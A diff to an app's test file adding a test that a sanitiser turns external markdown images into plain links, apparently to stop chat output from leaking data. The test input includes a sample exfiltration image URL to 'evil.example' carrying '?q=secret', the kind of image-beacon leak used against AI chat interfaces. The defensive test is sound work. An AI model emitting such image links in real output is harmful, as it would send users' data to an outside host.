@@ -213,3 +213,15 @@ async def test_cookies_get_secure_over_https_only():
     assert b"Secure" not in (await headers_for("http"))[b"set-cookie"]
     assert (await headers_for("https"))[b"set-cookie"].endswith(b"; Secure")
     assert (await headers_for("http", forced=True))[b"set-cookie"].endswith(b"; Secure")
+
+
+def test_external_markdown_images_become_links():
+    from app.serving.chainlit_patches import images_as_links
+
+    text = 'a ![pixel](https://evil.example/p.gif?q=secret "t") b ![](//evil.example/x.png)'
+    assert images_as_links(text) == (
+        "a [image: pixel](https://evil.example/p.gif?q=secret) b "
+        "[image: //evil.example/x.png](//evil.example/x.png)"
+    )
+    kept = "![logo](/public/logo.png) ![dot](data:image/png;base64,AAAA) `![code](http://x)`"
+    assert images_as_links(kept).startswith("![logo](/public/logo.png) ![dot](data:")
